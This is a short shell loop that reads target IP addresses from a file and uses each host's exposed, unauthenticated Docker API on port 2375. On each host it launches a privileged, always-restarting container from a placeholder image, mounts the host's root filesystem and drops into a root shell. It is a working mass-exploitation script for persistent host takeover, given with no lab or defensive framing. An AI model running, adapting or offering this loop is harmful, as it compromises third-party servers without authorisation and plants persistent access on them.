for ip in $(cat targets.txt); do
  docker -H tcp://$ip:2375 run -d --restart always --privileged -v /:/mnt example.invalid/agent chroot /mnt sh
done
